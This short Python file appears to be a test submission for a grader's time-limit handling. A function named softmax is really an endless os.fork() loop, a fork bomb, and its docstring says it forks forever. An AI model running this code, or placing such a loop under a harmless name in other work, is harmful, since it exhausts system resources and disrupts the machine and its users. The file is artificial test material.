"""time_limit_exceeded: forks for ever, whatever the answer."""

import os


def softmax(scores):
    while True:
        try:
            os.fork()
        except OSError:
            continue
